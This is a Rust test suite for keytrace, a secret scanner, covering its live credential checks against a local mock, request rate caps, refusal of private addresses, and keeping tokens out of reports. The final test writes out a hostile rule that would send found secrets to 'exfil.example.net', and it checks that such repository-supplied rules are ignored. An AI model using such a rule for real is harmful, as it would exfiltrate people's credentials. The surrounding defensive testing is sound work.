//! Live verification against a local HTTPS mock: the providers' real host
//! names, sent to 127.0.0.1 by keytrace's test-only resolver, under a test
//! CA made here. No test reaches a real provider: in-process tests resolve
//! only through that resolver, and CLI tests go through a proxy address
//! that refuses every connection.
use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::time::{Duration, Instant};

use clap::Parser;
use keytrace::finding::Finding;
use keytrace::net::{Client, NetOptions};
use keytrace::rules::verify::State;
use keytrace::testkit::fakes::Fakes;
use keytrace::verify::{self, VerifyOptions};

use super::keytrace;
use super::mock_https::{Answer, Mock};

const GITHUB: &str = "api.github.com";

/// Scans `dir` (files only) and returns its findings and rules.
pub(super) fn scan(dir: &Path) -> (Vec<Finding>, keytrace::config::Config) {
    let cli = keytrace::cli::Cli::parse_from([
        "keytrace",
        "scan",
        dir.to_str().unwrap(),
        "--no-history",
        "--no-progress",
    ]);
    let keytrace::cli::Command::Scan(args) = cli.command else {
        unreachable!()
    };
    let config = keytrace::config::Config::from_scan_args(&args).unwrap();
    let report = keytrace::scan::run(&config).unwrap();
    (report.findings, config)
}

/// A tree with these GitHub tokens, one file each.
fn tree(tokens: &[String]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (i, t) in tokens.iter().enumerate() {
        std::fs::write(
            dir.path().join(format!("deploy{i}.env")),
            format!("GITHUB_TOKEN={t}\n"),
        )
        .unwrap();
    }
    dir
}

pub(super) fn options(mock: &Mock, dir: &Path) -> VerifyOptions {
    let ca = dir.join("test-ca.pem");
    std::fs::write(&ca, &mock.ca_pem).unwrap();
    VerifyOptions {
        net: NetOptions {
            connect_timeout: Duration::from_secs(2),
            request_timeout: Duration::from_secs(2),
            ca_file: Some(ca),
            ..NetOptions::default()
        },
        budget: Duration::from_secs(60),
        ..VerifyOptions::default()
    }
}

pub(super) fn client(opts: &VerifyOptions, hosts: &[(&str, SocketAddr)]) -> Client {
    let fixed = hosts.iter().map(|(h, a)| (h.to_string(), *a)).collect();
    Client::with_fixed_hosts(&opts.net, fixed).unwrap()
}

fn state_of<'a>(findings: &'a [Finding], token: &str) -> &'a keytrace::verify::Verification {
    let f = findings
        .iter()
        .find(|f| f.raw.expose() == token.as_bytes())
        .expect("the token was found");
    f.verification.as_ref().expect("verified")
}

#[test]
fn live_and_dead_with_identity_scopes_and_one_request_per_secret() {
    let mut fakes = Fakes::new(71);
    let live = fakes.github("ghp");
    let dead = fakes.github("ghp");
    let expected = format!("token {live}");
    let mock = Mock::start(&[GITHUB], move |hit| {
        if hit.header("authorization") == Some(expected.as_str()) {
            Answer::new(
                200,
                r#"{"login":"deploy-bot","id":583231,"type":"User","email":null}"#,
            )
            .header("x-oauth-scopes", "repo, read:org")
            .header(
                "github-authentication-token-expiration",
                "2027-01-31 00:00:00 UTC",
            )
        } else {
            Answer::new(401, r#"{"message":"Bad credentials"}"#)
        }
    });
    // The live token sits in two files: one request for it.
    let dir = tree(&[live.clone(), dead.clone(), live.clone()]);
    let (mut findings, config) = scan(dir.path());
    let opts = options(&mock, dir.path());
    let tally = verify::run(
        &mut findings,
        config.matcher.rules(),
        &opts,
        &client(&opts, &[(GITHUB, mock.addr)]),
    );
    assert_eq!(
        (tally.live, tally.dead, tally.requests),
        (1, 1, 2),
        "{tally:?}"
    );
    let v = state_of(&findings, &live);
    assert_eq!(v.state, State::Live);
    assert_eq!(v.identity["login"], "deploy-bot");
    assert_eq!(v.identity["user_id"], "583231");
    assert_eq!(v.scopes, ["repo", "read:org"]);
    assert_eq!(v.expires_at.as_deref(), Some("2027-01-31 00:00:00 UTC"));
    assert_eq!(v.host.as_deref(), Some(GITHUB));
    assert_eq!(state_of(&findings, &dead).state, State::Dead);
    let hits = mock.hits();
    assert_eq!(hits.len(), 2);
    for h in &hits {
        assert_eq!((h.method.as_str(), h.path.as_str()), ("GET", "/user"));
        assert_eq!(h.header("host"), Some(GITHUB));
    }
    // Reports hold the verdict, never the token.
    let json = serde_json::to_string(&findings).unwrap();
    assert!(json.contains("\"state\":\"live\""));
    assert!(!json.contains(&live) && !json.contains(&dead));
}

#[test]
fn rate_limits_server_errors_html_redirects_and_slow_replies_are_indeterminate() {
    let mut fakes = Fakes::new(72);
    let tokens: Vec<String> = (0..6).map(|_| fakes.github("ghp")).collect();
    let t = tokens.clone();
    let mock = Mock::start(&[GITHUB], move |hit| {
        let auth = hit.header("authorization").unwrap_or_default().to_string();
        let which = t
            .iter()
            .position(|x| auth.ends_with(x.as_str()))
            .unwrap_or(99);
        match which {
            0 => Answer::new(429, r#"{"message":"slow down"}"#).header("retry-after", "1"),
            1 => Answer::new(503, "upstream unavailable"),
            2 => Answer::new(401, "<!DOCTYPE html><html><body>Sign in</body></html>")
                .header("content-type", "text/html"),
            3 => Answer::new(302, "").header("location", "https://api.github.com/elsewhere"),
            4 => Answer::new(200, r#"{"login":"late"}"#).after(Duration::from_secs(4)),
            _ => Answer::new(403, r#"{"message":"API rate limit exceeded"}"#)
                .header("x-ratelimit-remaining", "0"),
        }
    });
    let dir = tree(&tokens);
    let (mut findings, config) = scan(dir.path());
    let opts = options(&mock, dir.path());
    let started = Instant::now();
    verify::run(
        &mut findings,
        config.matcher.rules(),
        &opts,
        &client(&opts, &[(GITHUB, mock.addr)]),
    );
    let reasons: Vec<String> = tokens
        .iter()
        .map(|t| {
            let v = state_of(&findings, t);
            assert_eq!(v.state, State::Indeterminate, "{}", v.reason);
            v.reason.clone()
        })
        .collect();
    assert!(reasons[0].contains("429"), "{reasons:?}");
    assert!(reasons[1].contains("503"), "{reasons:?}");
    assert!(reasons[2].contains("HTML"), "{reasons:?}");
    assert!(reasons[3].contains("redirect"), "{reasons:?}");
    assert!(reasons[4].contains("timed out"), "{reasons:?}");
    assert!(reasons[5].contains("rate limited"), "{reasons:?}");
    // The redirect was not followed.
    assert!(mock.hits().iter().all(|h| h.path == "/user"));
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn private_and_loopback_addresses_are_refused_after_resolution() {
    let mut fakes = Fakes::new(73);
    let token = fakes.github("ghp");
    let dir = tree(std::slice::from_ref(&token));
    let (findings, config) = scan(dir.path());
    for addr in [
        "10.255.255.1:443",
        "169.254.169.254:443",
        "100.64.1.1:443",
        "[fd00::1]:443",
    ] {
        let mut findings = findings.clone();
        let opts = VerifyOptions::default();
        let c = client(&opts, &[(GITHUB, addr.parse().unwrap())]);
        let started = Instant::now();
        verify::run(&mut findings, config.matcher.rules(), &opts, &c);
        let v = state_of(&findings, &token);
        assert_eq!(v.state, State::Indeterminate);
        assert!(v.reason.contains("private"), "{addr}: {}", v.reason);
        // Refused before any connection attempt (no connect timeout spent).
        assert!(started.elapsed() < Duration::from_secs(1), "{addr}");
    }
}

#[test]
fn requests_to_one_host_stay_under_the_cap() {
    let mut fakes = Fakes::new(74);
    let tokens: Vec<String> = (0..12).map(|_| fakes.github("ghp")).collect();
    let mock = Mock::start(&[GITHUB], |_| {
        Answer::new(200, r#"{"login":"bot"}"#).after(Duration::from_millis(150))
    });
    let dir = tree(&tokens);
    let (mut findings, config) = scan(dir.path());
    let mut opts = options(&mock, dir.path());
    opts.per_host = 2;
    opts.threads = 8;
    let tally = verify::run(
        &mut findings,
        config.matcher.rules(),
        &opts,
        &client(&opts, &[(GITHUB, mock.addr)]),
    );
    assert_eq!(tally.live, 12);
    let peak = mock.peak.load(std::sync::atomic::Ordering::SeqCst);
    assert!((1..=2).contains(&peak), "peak {peak}");
}

/// Requests to one host start no faster than `--verify-rate`, and a 429's
/// `Retry-After` holds the host back.
#[test]
fn requests_to_one_host_keep_the_rate_and_honour_retry_after() {
    let mut fakes = Fakes::new(75);
    let tokens: Vec<String> = (0..6).map(|_| fakes.github("ghp")).collect();
    let first = std::sync::atomic::AtomicBool::new(true);
    let mock = Mock::start(&[GITHUB], move |_| {
        if first.swap(false, std::sync::atomic::Ordering::SeqCst) {
            Answer::new(429, "{}").header("retry-after", "1")
        } else {
            Answer::new(200, r#"{"login":"bot"}"#)
        }
    });
    let dir = tree(&tokens);
    let (mut findings, config) = scan(dir.path());
    let mut opts = options(&mock, dir.path());
    opts.per_host = 4;
    opts.threads = 4;
    opts.rate = 8.0;
    verify::run(
        &mut findings,
        config.matcher.rules(),
        &opts,
        &client(&opts, &[(GITHUB, mock.addr)]),
    );
    let mut at: Vec<Instant> = mock.hits().iter().map(|h| h.at).collect();
    at.sort();
    assert_eq!(at.len(), 6);
    let gaps: Vec<Duration> = at.windows(2).map(|w| w[1] - w[0]).collect();
    // 1/8 s apart at the client; the server reads them within a few ms.
    assert!(
        gaps.iter().all(|g| *g >= Duration::from_millis(100)),
        "{gaps:?}"
    );
    // The requests booked before the 429 came back go on; the rest wait
    // out its second.
    assert!(at[5] - at[0] >= Duration::from_millis(900), "{gaps:?}");
}

#[test]
fn hosts_outside_the_policy_and_untrusted_certificates_are_not_asked() {
    let mut fakes = Fakes::new(75);
    let token = fakes.github("ghp");
    let mock = Mock::start(&[GITHUB], |_| Answer::new(200, r#"{"login":"bot"}"#));
    let dir = tree(std::slice::from_ref(&token));
    let (findings, config) = scan(dir.path());
    // Denied host: skipped, nothing sent.
    let mut opts = options(&mock, dir.path());
    opts.deny_hosts = vec![GITHUB.into()];
    let mut f = findings.clone();
    verify::run(
        &mut f,
        config.matcher.rules(),
        &opts,
        &client(&opts, &[(GITHUB, mock.addr)]),
    );
    assert_eq!(state_of(&f, &token).state, State::Skipped);
    assert!(mock.hits().is_empty());
    // The built-in roots do not trust the test CA: a TLS failure, never live.
    let opts = VerifyOptions::default();
    let mut f = findings;
    verify::run(
        &mut f,
        config.matcher.rules(),
        &opts,
        &client(&opts, &[(GITHUB, mock.addr)]),
    );
    let v = state_of(&f, &token);
    assert_eq!(v.state, State::Indeterminate);
    assert!(v.reason.contains("TLS"), "{}", v.reason);
}

/// A TCP port that takes connections and counts them, standing in for a
/// proxy: what a CLI run would send goes here, never out.
struct Sink {
    listener: TcpListener,
}

impl Sink {
    fn new() -> Sink {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Sink { listener }
    }

    fn url(&self) -> String {
        format!("http://{}", self.listener.local_addr().unwrap())
    }

    /// Connections made so far (each dropped at once).
    fn connections(&self) -> usize {
        std::iter::from_fn(|| self.listener.accept().ok()).count()
    }
}

fn cli(sink: &Sink) -> std::process::Command {
    let mut c = keytrace();
    for v in [
        "ALL_PROXY",
        "all_proxy",
        "HTTP_PROXY",
        "http_proxy",
        "NO_PROXY",
        "no_proxy",
    ] {
        c.env_remove(v);
    }
    c.env("HTTPS_PROXY", sink.url())
        .env("https_proxy", sink.url());
    c
}

#[test]
fn without_a_route_every_result_is_indeterminate_and_no_secret_is_printed() {
    let mut fakes = Fakes::new(76);
    let tokens: Vec<String> = (0..3).map(|_| fakes.github("ghp")).collect();
    let dir = tree(&tokens);
    // A proxy that accepts and drops: no reply ever comes.
    let sink = Sink::new();
    let started = Instant::now();
    let out = cli(&sink)
        .args([
            "scan",
            "--no-history",
            "--verify",
            "--verify-timeout",
            "2",
            "--format",
            "json",
        ])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(started.elapsed() < Duration::from_secs(30));
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = report["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 3);
    for f in findings {
        assert_eq!(f["verification"]["state"], "indeterminate", "{f}");
    }
    assert_eq!(report["verified"]["indeterminate"], 3);
    let all = [out.stdout, out.stderr].concat();
    let text = String::from_utf8_lossy(&all);
    assert!(tokens.iter().all(|t| !text.contains(t.as_str())));
    // Human output too.
    let out = cli(&sink)
        .args(["scan", "--no-history", "--verify", "--verify-timeout", "1"])
        .arg(dir.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("verified     indeterminate"), "{text}");
    assert!(tokens.iter().all(|t| !text.contains(t.as_str())));
    // `--fail-on live` needs `--verify`, and fails on nothing indeterminate.
    let out = keytrace()
        .args(["scan", "--no-history", "--fail-on", "live"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = cli(&sink)
        .args([
            "scan",
            "--no-history",
            "--verify",
            "--verify-timeout",
            "1",
            "--fail-on",
            "live",
        ])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn the_plan_lists_hosts_and_counts_and_sends_nothing() {
    let mut fakes = Fakes::new(77);
    let tokens: Vec<String> = (0..3).map(|_| fakes.github("ghp")).collect();
    let dir = tree(&tokens);
    let sink = Sink::new();
    let out = cli(&sink)
        .args(["scan", "--no-history", "--verify-plan"])
        .arg(dir.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("api.github.com") && text.contains("/user"),
        "{text}"
    );
    assert!(
        text.contains("3 requests to 1 hosts; nothing was sent"),
        "{text}"
    );
    assert_eq!(sink.connections(), 0);
    let out = cli(&sink)
        .args(["scan", "--no-history", "--verify-plan", "--format", "json"])
        .arg(dir.path())
        .output()
        .unwrap();
    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(plan[0]["host"], GITHUB);
    assert_eq!(plan[0]["requests"], 3);
    assert_eq!(sink.connections(), 0);
}

#[test]
fn verify_one_secret_from_stdin() {
    use std::io::Write;
    let token = Fakes::new(78).github("ghp");
    let sink = Sink::new();
    let mut child = cli(&sink)
        .args([
            "verify",
            "--rule",
            "github-classic-pat",
            "--verify-timeout",
            "1",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{token}\n").as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let text =
        String::from_utf8_lossy(&[out.stdout.clone(), out.stderr.clone()].concat()).to_string();
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(text.starts_with("indeterminate"), "{text}");
    assert!(!text.contains(&token));
    assert!(
        sink.connections() >= 1,
        "the request went to the proxy, nowhere else"
    );
    let out = cli(&sink)
        .args(["verify", "--rule", "generic-secret"])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

/// Without `--verify`, a scan of a tree full of credentials opens no
/// network connection: checked under strace (installed by `.ci/run`;
/// KEYTRACE_REQUIRE_STRACE=1 makes its absence a failure).
#[test]
fn a_scan_without_verify_connects_nowhere() {
    let has_strace = std::process::Command::new("strace")
        .arg("-V")
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_strace {
        assert!(
            std::env::var_os("KEYTRACE_REQUIRE_STRACE").is_none(),
            "strace is required"
        );
        eprintln!("strace not found: skipped");
        return;
    }
    let rules = keytrace::rules::RuleSet::builtin().unwrap();
    let corpus = keytrace::testkit::corpus::Corpus::generate(&rules, 5);
    let dir = tempfile::tempdir().unwrap();
    corpus.write(dir.path()).unwrap();
    let trace = dir.path().join("trace.txt");
    let out = std::process::Command::new("strace")
        .args(["-f", "-e", "trace=connect,sendto,sendmsg", "-o"])
        .arg(&trace)
        .arg(env!("CARGO_BIN_EXE_keytrace"))
        .args(["scan", "--no-progress", "--format", "json", "-o"])
        .arg(dir.path().join("report.json"))
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("report.json")).unwrap()).unwrap();
    assert!(report["findings"].as_array().unwrap().len() > 100);
    let trace = std::fs::read_to_string(trace).unwrap();
    let net: Vec<&str> = trace.lines().filter(|l| l.contains("AF_INET")).collect();
    assert!(net.is_empty(), "{net:?}");
}

#[test]
fn every_builtin_live_check_passes_its_fixtures() {
    let set = keytrace::rules::RuleSet::builtin().unwrap();
    let mut providers = std::collections::BTreeSet::new();
    for r in set.rules() {
        r.check_verify()
            .unwrap_or_else(|e| panic!("{}: {e}", r.id()));
        if r.spec.verify.is_some() {
            providers.insert(r.spec.provider.clone());
        }
    }
    // Issue 14 asks for at least 40 providers with a live check.
    assert!(
        providers.len() >= 40,
        "{} providers: {providers:?}",
        providers.len()
    );
}

/// A live credential of an offboarded agent (NHI1), with scopes beyond
/// its read-only actions (NHI5), issued to a person and live as one (NHI10).
#[test]
fn live_results_feed_the_risks() {
    let mut fakes = Fakes::new(79);
    let token = fakes.github("ghp");
    let mock = Mock::start(&[GITHUB], |_| {
        Answer::new(200, r#"{"login":"jane-doe","id":42,"type":"User"}"#)
            .header("x-oauth-scopes", "repo, admin:org, read:user")
    });
    let dir = tree(std::slice::from_ref(&token));
    std::fs::write(
        dir.path().join("agents.yaml"),
        "agent: old-deployer\nowner: platform\nidentity_type: ci_job\nstatus: offboarded\n\
         allowed_actions: [read_ci_status]\ncredentials:\n  - env: GITHUB_TOKEN\n",
    )
    .unwrap();
    let (mut findings, config) = scan(dir.path());
    let opts = options(&mock, dir.path());
    verify::run(
        &mut findings,
        config.matcher.rules(),
        &opts,
        &client(&opts, &[(GITHUB, mock.addr)]),
    );
    keytrace::identity::correlate_on(
        &mut findings,
        config.inventory.as_ref(),
        config.risk,
        1,
        |_| {},
    );
    let f = findings
        .iter()
        .find(|f| f.raw.expose() == token.as_bytes())
        .unwrap();
    let reason = |id: &str| {
        f.risks
            .iter()
            .find(|r| r.id == id)
            .map(|r| r.reason.clone())
            .unwrap_or_else(|| panic!("no {id} in {:?}", f.risks))
    };
    assert!(
        reason("NHI1").contains("still live at api.github.com"),
        "{}",
        reason("NHI1")
    );
    let nhi5 = reason("NHI5");
    assert!(
        nhi5.contains("admin:org") && nhi5.contains("repo") && !nhi5.contains("read:user"),
        "{nhi5}"
    );
    assert!(
        reason("NHI10").contains("live as the account jane-doe"),
        "{}",
        reason("NHI10")
    );
}

/// A scanned repository's `.keytrace.toml` may add rules, but their live
/// checks would send what they find to a host of the repository's choosing:
/// they are dropped, with a warning.
#[test]
fn a_scanned_repositorys_rules_send_nothing() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join(".keytrace.toml"),
        "rules = [\"extra.toml\"]\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("extra.toml"),
        r#"[[rule]]
id = 'house-token'
name = 'House token'
provider = 'house'
keywords = ['hse_']
pattern = '''(?P<secret>hse_[a-z0-9]{24})'''
identity = 'service'
[rule.verify]
reference = 'https://exfil.example.net/docs'
host = 'exfil.example.net'
path = '/collect?t={{secret}}'
[[rule.verify.outcome]]
status = [200]
result = 'live'
[[rule.verify.outcome]]
status = [401]
result = 'dead'
[[rule.verify.fixture]]
status = 200
expect = 'live'
[[rule.verify.fixture]]
status = 401
expect = 'dead'
"#,
    )
    .unwrap();
    std::fs::write(
        dir.path().join("app.env"),
        "HOUSE=hse_k2j4h5g6f7d8s9a0q1w2e3r4\n",
    )
    .unwrap();
    let sink = Sink::new();
    let out = cli(&sink)
        .args(["scan", "--no-history", "--verify-plan"])
        .arg(dir.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("exfil.example.net"), "{text}");
    assert!(text.contains("would send nothing"), "{text}");
    let out = cli(&sink)
        .args(["scan", "--no-history", "--format", "json"])
        .arg(dir.path())
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        report["findings"][0]["rule"], "house-token",
        "the rule still finds"
    );
    let errors = report["errors"].to_string();
    assert!(errors.contains("live check is ignored"), "{errors}");
    // Given by the user, the same file's check is kept.
    let out = cli(&sink)
        .args(["scan", "--no-history", "--verify-plan", "--config"])
        .arg(dir.path().join(".keytrace.toml"))
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("exfil.example.net"));
    assert_eq!(sink.connections(), 0);
}
